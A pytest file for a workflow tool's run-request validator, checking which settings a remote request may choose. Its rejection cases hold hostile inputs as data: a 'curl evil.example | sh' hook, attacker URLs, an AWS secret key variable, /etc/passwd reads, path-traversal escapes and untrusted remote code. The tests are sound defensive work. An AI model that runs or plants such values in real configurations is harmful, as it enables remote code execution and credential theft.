"""Run requests through a server: which settings they may choose, and how others are allowed."""

from __future__ import annotations

import shlex
import typing
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from dflash_core.config import RequestRule, RunConfig
from dflash_core.errors import UserError
from flows.runtime import deployments
from flows.runtime.run_requests import VARIABLE, check_request, is_inside, walk

# Strings that name nothing outside the run: names in reports, of columns, of template variables.
HARMLESS = {
    *("deployment", "tracking.experiment", "tracking.group", "regenerate.model"),
    *("target.revision", "target.device_map"),
    *("data.columns", "data.roles", "data.template_arguments", "data.template_date", "evaluation.columns"),
    # names of stages
    "refresh",
}
OWN = """
deployments:
  - name: small
    entrypoint: flows.serve_check.serve_check
    parameters:
      storage_root: {root}/runs
      target: {{name: owner/model, revision: r1, trust_remote_code: true}}
      data: {{files: [/elsewhere/own.jsonl]}}
      training: {{on_failure: notify-me}}
      tracking: {{uri: http://127.0.0.1:5000}}
"""
OWN_TARGET = {"name": "owner/model", "revision": "r1"}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project directory with prefect.yaml, some data, and a link that leads out of it; also the cwd."""
    project = tmp_path / "project"
    (project / "data").mkdir(parents=True)
    (project / "prefect.yaml").write_text(OWN.format(root=project))
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "a.jsonl").touch()
    (project / "link").symlink_to(tmp_path / "outside")
    monkeypatch.chdir(project)
    monkeypatch.delenv(VARIABLE, raising=False)
    return project


def check(project: Path, given: dict[str, Any], deployment: str | None = "small") -> None:
    path = project / "prefect.yaml"
    settings = deployments.resolve("serve-check", deployment, given, path)
    check_request("serve-check", deployment, settings, path)


def test_every_free_string_has_a_rule_or_is_known_to_be_harmless() -> None:
    """A new setting that names a path, a command or a server needs a `RequestRule`."""
    options = [info.options() for info in deployments.FLOWS.values()]
    rules = {}
    for part in (RunConfig(), *options):
        for name, field, _ in walk(part):
            rule = field.metadata.get("request")
            if rule is not None:
                rules[name] = rule
            elif "str" in str(field.type):
                assert name in HARMLESS, name
    assert set(rules.values()) <= set(typing.get_args(RequestRule))
    assert rules == {
        "target.name": "model",
        "target.trust_remote_code": "trust",
        "data.files": "read",
        "data.chat_template": "read",
        "regenerate.base_url": "own",
        "regenerate.api_key_env": "own",
        "training.init_from": "read",
        "training.resume_from": "read",
        "training.on_failure": "own",
        "evaluation.prompts": "read",
        "tracking.uri": "own",
        "storage_root": "write",
        "task_runner_address": "own",
        "evaluation.engine_python": "own",
        "drafter_path": "read",
        "drafter_paths": "read",
        "python": "own",
        "target.download_limit_gb": "own",
        "data.download_limit_gb": "own",
    }


@pytest.mark.parametrize(
    "given",
    [
        {},
        {"training": {"epochs": 2}},
        # the deployment's own values, and the defaults
        {"training": {"on_failure": "notify-me"}, "data": ["/elsewhere/own.jsonl", "data"]},
        {"training": {"on_failure": None}, "tracking": {"uri": None}, "target": {"trust_remote_code": False}},
        {"target": {"name": "other/model", "trust_remote_code": False}},
        {
            "target": {"name": "data", "trust_remote_code": False},
            "data": ["data/*.jsonl", "data/**/x?.jsonl"],
        },
        {"data": ["hf://datasets/owner/chats"], "drafter_path": "runs/quickstart/latest"},
        {"data": ["package://smollm2-boilerplate.jsonl"]},
        {"training": {"init_from": "runs/a"}, "evaluation": {"prompts": ["data/p.jsonl"]}},
    ],
)
def test_what_a_request_may_ask_for(project: Path, given: dict[str, Any]) -> None:
    check(project, given)


@pytest.mark.parametrize(
    "given, name",
    [
        ({"training": {"on_failure": "curl evil.example | sh"}}, "training.on_failure"),
        ({"tracking": {"uri": "http://evil.example"}}, "tracking.uri"),
        ({"regenerate": {"base_url": "http://evil.example/v1"}}, "regenerate.base_url"),
        ({"regenerate": {"api_key_env": "AWS_SECRET_ACCESS_KEY"}}, "regenerate.api_key_env"),
        ({"task_runner": "dask", "task_runner_address": "tcp://evil.example:1"}, "task_runner_address"),
        ({"python": "/tmp/evil"}, "python"),
        ({"target": {"name": "/tmp/evil", "trust_remote_code": False}}, "target.name"),
        ({"target": {"name": "../outside", "trust_remote_code": False}}, "target.name"),
        ({"target": {"name": "link", "trust_remote_code": False}}, "target.name"),
        # trusted is the deployment's own target alone
        ({"target": {"name": "evil/model"}}, "target.trust_remote_code"),
        ({"target": {"revision": "r2"}}, "target.trust_remote_code"),
        ({"storage_root": "/tmp/evil"}, "storage_root"),
        # may be read, not written
        ({"storage_root": "flows"}, "storage_root"),
        ({"data": ["/etc/passwd"]}, "data.files"),
        ({"data": ["data", "data/../../outside"]}, "data.files"),
        ({"data": ["~/x.jsonl"]}, "data.files"),
        ({"data": ["link/a.jsonl"]}, "data.files"),
        ({"data": ["/elsewhere/*.jsonl"]}, "data.files"),
        ({"data": ["data/*/../../../outside/a.jsonl"]}, "data.files"),
        ({"data": {"chat_template": "/etc/passwd"}}, "data.chat_template"),
        ({"evaluation": {"prompts": ["/etc/passwd"]}}, "evaluation.prompts"),
        # a path here, no name on the Hub
        ({"evaluation": {"prompts": ["hf://datasets/../../../outside/a.jsonl"]}}, "evaluation.prompts"),
        ({"evaluation": {"prompts": ["a\0b"]}}, "evaluation.prompts"),
        ({"training": {"init_from": "/tmp/evil"}}, "training.init_from"),
        ({"training": {"resume_from": "/tmp/evil"}}, "training.resume_from"),
        ({"drafter_path": "/tmp/evil"}, "drafter_path"),
        ({"evaluation": {"engine_python": "/tmp/evil"}}, "evaluation.engine_python"),
    ],
)
def test_what_a_request_may_not_ask_for(project: Path, given: dict[str, Any], name: str) -> None:
    with pytest.raises(UserError, match=f"{name}: .* is not allowed in a run request .*; allowed: .*--param"):
        check(project, given)


def test_a_deployment_that_this_machine_does_not_know_trusts_nothing(project: Path) -> None:
    check(project, {}, deployment=None)
    with pytest.raises(UserError, match=r"target.trust_remote_code: True .* true only where prefect.yaml"):
        check(project, {"target": {**OWN_TARGET, "trust_remote_code": True}}, deployment=None)


def test_the_variable_of_the_worker_allows_paths_and_values(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = project.parent / "outside"
    given = {
        "storage_root": str(outside / "runs"),
        "data": ["link/a.jsonl", str(outside)],
        "training": {"on_failure": "notify 'me too'"},
        "tracking": {"uri": "http://127.0.0.1:6000"},
    }
    entries = [str(outside), "notify 'me too'", "http://127.0.0.1:6000"]
    monkeypatch.setenv(VARIABLE, shlex.join(entries))
    check(project, given)
    monkeypatch.setenv(VARIABLE, shlex.join(entries[1:]))
    with pytest.raises(UserError, match="storage_root: .*directories listed in DFLASH_ALLOWED"):
        check(project, given)
    # Never the code of another model.
    monkeypatch.setenv(VARIABLE, "evil/model True true")
    with pytest.raises(UserError, match="target.trust_remote_code"):
        check(project, {"target": {"name": "evil/model"}})


def test_paths_that_only_start_alike_are_outside(tmp_path: Path) -> None:
    assert is_inside(f"{tmp_path}/data/x", [f"{tmp_path}/data"])
    assert not is_inside(f"{tmp_path}/data2/x", [f"{tmp_path}/data"])


def test_flow_runs_of_deployments_are_checked_and_calls_of_functions_are_not(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The attack: preview-data of a directory whose tokenizer has code of its own."""
    from flows.runtime import entry

    evil = {"target": {"name": "/tmp/evil", "trust_remote_code": True}}

    def settings(**deployment: str | None) -> Any:
        flow_run = SimpleNamespace(parameters=evil)
        runtime = SimpleNamespace(flow_run=flow_run, deployment=SimpleNamespace(**deployment))
        monkeypatch.setattr(entry, "runtime", runtime)
        entry._settings.cache_clear()
        return entry._settings("preview-data", "some id")

    for name in ("quickstart", "made-by-somebody"):
        with pytest.raises(UserError, match=r"target\.(name|trust_remote_code): .* is not allowed"):
            settings(name=name, id="an id")
    config, _ = settings(name=None, id=None)
    assert config.target.name == "/tmp/evil"
